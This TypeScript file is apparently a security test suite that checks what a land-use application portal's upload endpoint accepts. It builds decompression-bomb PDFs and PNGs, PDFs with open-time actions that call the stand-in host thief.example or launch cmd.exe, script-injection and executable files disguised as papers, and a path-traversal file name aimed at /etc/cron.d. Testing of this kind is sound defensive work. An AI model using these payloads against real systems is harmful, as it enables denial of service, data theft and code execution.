import { crc32, deflateSync } from 'node:zlib'
import { EntityType } from '#domain/application/kind.ts'
import { REQUIRED_DOCUMENTS } from '#domain/landuse/form.ts'
import { makePdf } from '#server/documents/testing/makePdf.ts'
import { type Attack, anyOf, must } from './lib/attack.ts'
import { call, upload } from './lib/client.ts'
import { type Person, signUp } from './lib/people.ts'
import type { Place, Running } from './lib/place.ts'

const MB = 1024 * 1024
const [PAPER = 0] = REQUIRED_DOCUMENTS
const PORTRAIT = 901

/** A citizen with a record that takes a paper. */
export interface Uploader extends Person {
  readonly draft: number
}

/** Signs a citizen up who may send a paper. */
export async function uploader(place: Running): Promise<Uploader> {
  const person = await signUp(place)
  const made = await call(place, 'SaveLandUseForm', {}, person)
  must(made.status === 2, `no draft: ${made.message}`)
  return { ...person, draft: made.value.applicationId }
}

/** Sends a paper to the citizen's own record. */
export const sendPaper = (
  place: Running,
  { draft, userId, session }: Uploader,
  bytes: Buffer,
  name = 'paper.pdf',
) =>
  upload(
    place,
    { bytes, name },
    { userNo: userId, EntityTypeId: EntityType.LandUseApplication, DocumentTypeId: PAPER, entityId: draft },
    { session },
  )

const sendPortrait = (place: Place, { userId, session }: Person, bytes: Buffer, name: string) =>
  upload(
    place,
    { bytes, name },
    { userNo: userId, EntityTypeId: EntityType.CitizenUser, DocumentTypeId: PORTRAIT, entityId: userId },
    { session },
  )

/** A page whose content is packed three times: some hundred bytes that unfold to a quarter of a gigabyte. */
export function pdfBomb(): Buffer {
  const packed = [1, 2, 3].reduce(bytes => deflateSync(bytes), Buffer.alloc(256 * MB, 0x20))
  const stream = packed.toString('latin1')
  const body = `<< /Length ${packed.length} /Filter [/FlateDecode /FlateDecode /FlateDecode] >>\nstream\n${stream}\nendstream`
  return makePdf({ page: '/Contents 5 0 R', objects: [body] })
}

/** The same quarter of a gigabyte packed once: nothing but the unpacking tells that it is one. */
export function plainBomb(): Buffer {
  const packed = deflateSync(Buffer.alloc(256 * MB, 0x20))
  const body = `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed.toString('latin1')}\nendstream`
  return makePdf({ page: '/Contents 5 0 R', objects: [body] })
}

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(head))
  return Buffer.concat([length, head, sum])
}

/** A black PNG of one bit a point, so many points wide and high. */
function png(side: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head[8] = 1
  const points = deflateSync(Buffer.alloc(side * (Math.ceil(side / 8) + 1)))
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', points),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** Actions by which a PDF reaches out of itself, each as the page opens (PDF 32000-1, table 198). */
const ACTIONS: Readonly<Record<string, string>> = {
  JavaScript: '/S /JavaScript /JS (app.alert(1))',
  Launch: '/S /Launch /F (cmd.exe)',
  GoToR: '/S /GoToR /F (\\\\\\\\thief.example\\\\share) /D [0 /Fit]',
  GoToE: '/S /GoToE /D [0 /Fit] /T << /R /C /N (x) >>',
  SubmitForm: '/S /SubmitForm /F (https://thief.example)',
  ImportData: '/S /ImportData /F (https://thief.example/x.fdf)',
  URI: '/S /URI /URI (https://thief.example/opened)',
  Rendition: '/S /Rendition /OP 0',
}

export const attacks: readonly Attack[] = [
  {
    name: 'upload bombs: sixteen PDFs and eight pictures, beside an innocent paper',
    async run(place) {
      const innocent = await uploader(place)
      const attackers = await Promise.all(Array.from({ length: 4 }, () => uploader(place)))
      const [bomb, picture] = [pdfBomb(), png(12_000)]
      let kept = 0
      const count = async (one: Promise<{ status: number }>) => {
        if ((await one).status === 2) kept += 1
      }
      const bombs = attackers.flatMap(one => [
        ...Array.from({ length: 4 }, () => count(sendPaper(place, one, bomb))),
        ...Array.from({ length: 2 }, () => count(sendPortrait(place, one, picture, 'portrait.png'))),
      ])
      const all = bombs.length
      const paper = await sendPaper(place, innocent, makePdf())
      await Promise.all(bombs)
      must(paper.status === 2, `the innocent paper was refused: ${paper.message}`)
      return kept > 0 ? `${kept} of ${all} bombs were kept` : undefined
    },
  },
  {
    name: `upload PDFs that act when they are opened (${Object.keys(ACTIONS).join(', ')})`,
    async run(place) {
      const person = await uploader(place)
      const fine = await sendPaper(place, person, makePdf())
      must(fine.status === 2, `a plain paper was refused: ${fine.message}`)
      return anyOf(
        Object.entries(ACTIONS),
        async ([name, action]) => {
          const catalog = `/OpenAction << /Type /Action ${action} >>`
          const { status } = await sendPaper(place, person, makePdf({ catalog }))
          return status === 2 ? `${name} was kept` : undefined
        },
        1,
      )
    },
  },
  {
    name: 'upload programs, pages and archives under the names of pictures and papers',
    async run(place) {
      const person = await uploader(place)
      const disguised = [
        'MZ\x90\x00',
        '<html><script>alert(1)</script>',
        'PK\x03\x04',
        '<svg onload="alert(1)"/>',
        '#!/bin/sh',
      ]
      return anyOf(
        disguised,
        async text => {
          const bytes = Buffer.from(text.padEnd(400), 'latin1')
          const one = await sendPaper(place, person, bytes, '../../../etc/cron.d/paper.pdf')
          const other = await sendPortrait(place, person, bytes, 'portrait.png')
          return one.status === 2 || other.status === 2 ? `${text.slice(0, 5)} was kept` : undefined
        },
        1,
      )
    },
  },
]
